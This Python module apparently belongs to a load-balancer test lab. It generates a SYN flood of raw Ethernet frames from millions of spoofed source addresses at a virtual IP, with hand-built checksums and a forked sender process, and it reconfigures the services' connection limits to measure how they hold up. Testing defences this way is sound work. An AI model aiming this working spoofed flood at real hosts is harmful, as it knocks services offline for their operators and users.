"""A SYN flood, and the limits against it."""
import contextlib
import multiprocessing
import socket
import struct
import time

from lab import VIP4


def limited(net, limits):
    """The same services with other limits."""
    for service in net.loom.config["services"]:
        service["limits"] = limits
    net.loom.write()
    net.loom.api("POST", "/config/reload")


NETS = 128  # of 65,536 addresses each
WORDS = [struct.pack("!H", number) for number in range(65536)]


class Flood:
    """SYNs from eight million addresses that do not exist, as fast as one thread sends."""

    def __init__(self, host, interface, gateway_mac):
        self.host = host
        with host.entered():
            self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
            self.sock.bind((interface, 0))
        smac = bytes.fromhex(host.mac(interface).replace(":", ""))
        self.ether = bytes.fromhex(gateway_mac.replace(":", "")) + smac + b"\x08\x00"
        self.frames = [bytearray(self.syn(number)) for number in range(NETS)]
        self.next = 0
        self.sent = 0

    def syn(self, number):
        """From 10.128.0.0/9, which the balancer's host routes back to the client's network, where nobody answers."""
        source = struct.pack("!I", 0x0a800000 | number << 16)
        target = socket.inet_aton(VIP4)
        tcp = struct.pack("!HHIIBBHHHBBH", 1024 + number, 80, number << 16 | 0xffff, 0, 0x60, 2, 65535, 0, 0, 2, 4, 1460)
        tcp = tcp[:16] + struct.pack("!H", checksum(source + target + struct.pack("!HH", 6, len(tcp)) + tcp)) + tcp[18:]
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0xffff, 0x4000, 64, 6, 0) + source + target
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        return self.ether + ip + tcp

    def another(self):
        """The next address.  What it adds to the sums, the IP header's identification and the sequence number take away."""
        frame = self.frames[self.next >> 16 & NETS - 1]
        low = self.next & 0xffff
        frame[28:30] = WORDS[low]
        frame[18:20] = frame[40:42] = WORDS[0xffff - low]
        self.next += 1
        return frame

    def run(self, seconds, pause=0.0):
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            time.sleep(pause)
            for _ in range(4096):
                with contextlib.suppress(OSError):  # ENOBUFS: the queue is full
                    self.sock.send(self.another())
                    self.sent += 1


class Beside:
    """A flood from a process of its own, so that it does not take its turn with the clients' threads."""

    def __init__(self, flood):
        self.flood = flood
        self.sent = 0

    def run(self, seconds):
        context = multiprocessing.get_context("fork")
        ours, theirs = context.Pipe(duplex=False)
        child = context.Process(target=self._send, args=(theirs, seconds), daemon=True)
        child.start()
        theirs.close()
        sent, self.flood.next = ours.recv()
        self.sent += sent
        child.join()

    def _send(self, pipe, seconds):
        before = self.flood.sent
        self.flood.run(seconds)
        pipe.send((self.flood.sent - before, self.flood.next))


def checksum(data):
    total = sum(struct.unpack(f"!{(len(data) + 1) // 2}H", data + b"\0" * (len(data) % 2)))
    total = (total & 0xffff) + (total >> 16)
    return ~(total + (total >> 16)) & 0xffff
